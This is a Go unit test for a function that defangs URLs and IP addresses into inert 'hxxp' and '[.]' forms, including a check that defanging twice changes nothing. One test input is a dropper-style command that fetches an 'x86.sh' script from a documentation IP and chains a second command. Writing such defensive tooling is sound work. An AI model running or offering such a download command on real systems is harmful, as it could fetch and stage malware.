package payload

import "testing"

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"wget http://203.0.113.66/x86.sh; ls":    "wget hxxp://203[.]0[.]113[.]66/x86.sh; ls",
		`{"url":"https://a.example:8443/b.c?d"}`: `{"url":"hxxps://a[.]example:8443/b.c?d"}`,
		"HTTP://A.EXAMPLE ftp://b.example/":      "HXXP://A[.]EXAMPLE fxp://b[.]example/",
		"tftp://u:p@c.example#x":                 "tfxp://u:p@c[.]example#x",
		"http:// 192.0.2.7 hxxp://x.y nothttp":   "hxxp:// 192.0.2.7 hxxp://x.y nothttp",
		"":                                       "",
	} {
		if got := Defang(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
		if got := Defang(Defang(in)); got != want {
			t.Errorf("%q twice: %q", in, got)
		}
	}
}
